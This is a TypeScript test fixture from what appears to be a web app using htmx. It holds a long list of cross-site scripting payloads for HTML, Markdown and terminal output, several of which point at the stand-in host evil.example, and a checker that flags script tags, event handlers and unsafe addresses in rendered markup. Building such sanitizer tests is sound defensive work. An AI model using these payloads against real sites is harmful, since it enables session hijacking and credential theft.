/**
 * Strings that try to become markup or script: in text, in attributes, in addresses, in Markdown, in terminal output.
 * Every place that shows outside text is shown all of them.
 */
export const xss: readonly string[] = [
  `<script>globalThis.hacked=1</script>`,
  `</title><script>hacked=1</script>`,
  `</textarea><img src=x onerror=hacked=1>`,
  `</style><svg/onload=hacked=1>`,
  `</pre></code></details><iframe src=javascript:hacked=1>`,
  `"><img src=x onerror="hacked=1">`,
  `'><svg onload='hacked=1'>`,
  `" autofocus onfocus="hacked=1`,
  `' onmouseover='hacked=1`,
  "` onload=`hacked=1",
  `<hx-partial hx-target="body"><b>taken over</b></hx-partial>`,
  `<template hx type="partial" hx-target="body">taken over</template>`,
  `<div hx-get="https://evil.example/x" hx-trigger="load"></div>`,
  `<div hx-swap-oob="true" id="conversation">gone</div>`,
  `<head><title>taken over</title></head>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example"><input name=password></form>`,
  `<a href="javascript:hacked=1">x</a>`,
  `&lt;script&gt;hacked=1&lt;/script&gt;`,
  `&#60;script&#62;hacked=1&#60;/script&#62;`,
  `<scr<script>ipt>hacked=1</scr</script>ipt>`,
  `<ScRiPt\n>hacked=1</sCrIpT\n>`,
  `<img/src="x"/onerror=hacked=1>`,
  `<svg><animate onbegin=hacked=1 attributeName=x dur=1s>`,
  `<math><mi//xlink:href="data:x,<script>hacked=1</script>">`,
  `<!--><img src=x onerror=hacked=1>-->`,
  `<![CDATA[<script>hacked=1</script>]]>`,
  `\u0000<script>hacked=1</script>`,
  `<\u0000script>hacked=1</script>`,
  `\u2028<script>hacked=1</script>`,
  `＜script＞hacked=1＜/script＞`,
  `\u202e<script>hacked=1</script>`,
  `[x](javascript:hacked=1)`,
  `[x](JaVaScRiPt:hacked=1)`,
  `[x](java\tscript:hacked=1)`,
  `[x](&#106;avascript:hacked=1)`,
  `[x](javascript&colon;hacked=1)`,
  `[x](data:text/html,<script>hacked=1</script>)`,
  `[x](vbscript:hacked=1)`,
  `[x](//evil.example/x)`,
  `[x](https://ok.example/" onclick="hacked=1)`,
  `[x](https://ok.example 't" onmouseover="hacked=1')`,
  `![x](https://evil.example/track.png)`,
  `![x" onerror="hacked=1](https://evil.example/a.png)`,
  `![x](data:image/svg+xml,<svg onload=hacked=1>)`,
  `[x]: javascript:hacked=1\n\n[x]`,
  `<javascript:hacked=1>`,
  `<https://ok.example/"onclick="hacked=1>`,
  "```html\n<script>hacked=1</script>\n```",
  '```"><script>hacked=1</script>\nx\n```',
  '```js x" onload="hacked=1\n<img src=x onerror=hacked=1>\n```',
  "`<script>hacked=1</script>`",
  `| <img src=x onerror=hacked=1> |\n|---|\n| <script>hacked=1</script> |`,
  `- [ ] <script>hacked=1</script>\n- [x] "><svg onload=hacked=1>`,
  `# <script>hacked=1</script>`,
  `> <iframe srcdoc="<script>hacked=1</script>">`,
  `***<b onclick=hacked=1>x***`,
  `\\<script>hacked=1\\</script>`,
  `\u001b[31m<script>hacked=1</script>\u001b[0m`,
  `\u001b]8;;javascript:hacked=1\u0007x\u001b]8;;\u0007`,
  `\u001b]0;<script>hacked=1</script>\u0007`,
  `\u001b[38;2;"onload=hacked=1m<b>x`,
  `\u001b[<script>m`,
  `\u009b31m<img src=x onerror=hacked=1>`,
]

/**
 * What must never stand in markup that shows such a string: tags that run or load, handler attributes, addresses that
 * run, elements that htmx would obey. Finds none in markup that only shows the string as text. `frame` names tags that
 * the page around it has by right.
 */
export function dangers(markup: string, frame: readonly string[] = []): string[] {
  const found: string[] = []
  new HTMLRewriter()
    .on("*", {
      element(element) {
        const tag = element.tagName.toLowerCase()
        if (forbidden.has(tag) && !frame.includes(tag)) found.push(`<${tag}>`)
        for (const [name, value] of element.attributes) {
          if (/^(on|style$|srcdoc$)/i.test(name)) found.push(`${name} on <${tag}>`)
          if (/^(href|src|action|formaction|xlink:href|data|hx-(get|post))$/i.test(name) && !isHarmless(value))
            found.push(`${name}="${value}"`)
        }
      },
    })
    .transform(markup)
  return found
}

const forbidden = new Set(
  "script style link meta title head iframe object embed base math template animate frame frameset applet img video audio source hx-partial".split(
    " ",
  ),
)

/** Our own paths, fragments, and the addresses a person may follow. */
const isHarmless = (value: string) => /^(\/(?![/\\])|#|\?|https?:\/\/|mailto:)/i.test(value)
